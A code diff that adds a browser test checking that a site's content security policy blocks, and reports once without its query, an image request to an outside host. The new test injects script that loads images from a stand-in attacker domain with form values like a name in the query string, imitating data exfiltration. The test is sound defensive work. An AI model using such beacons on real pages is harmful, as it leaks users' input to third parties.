@@ -1,5 +1,6 @@
 // The content policy as a browser enforces it. Every other browser test proves that the policy refuses nothing of the
 // site itself: a refusal writes a console line, which fails the test.
+import { POLICY_REPORTS } from '../../app/forms/provider.ts'
 import { KEPT_FEATURES } from '../../hosting/policy/headers.ts'
 import { expect, openPageWith, test } from './fixtures.ts'
 
@@ -92,4 +93,19 @@ test('every feature that the browser knows is off, except those that are kept', 
   const header = (await request.get('/')).headers()['permissions-policy'] ?? ''
   const off = header.split(', ').map((each) => each.replace('=()', ''))
   expect(off.toSorted()).toEqual(known.filter((name) => !KEPT_FEATURES.test(name)).toSorted())
+})
+
+test('what the policy refuses on a page with a form is reported once, without its query', async ({ page, noise }) => {
+  noise.expect(/Content Security Policy/, /evil\.example/)
+  const bodies: unknown[] = []
+  page.on('request', (each) => {
+    if (new URL(each.url()).pathname === POLICY_REPORTS) bodies.push(each.postDataJSON())
+  })
+  const { path } = await openPageWith(page, 'a form')
+  await expect(page.locator('[data-state]')).toHaveAttribute('data-state', /opened|ready/)
+  await page.evaluate(() => {
+    for (const query of ['?name=Jane', '?name=Jane', '?other=1'])
+      new Image().src = `https://evil.example/p.gif${query}`
+  })
+  await expect.poll(() => bodies).toEqual([{ page: path, directive: 'img-src', blocked: 'https://evil.example' }])
 })
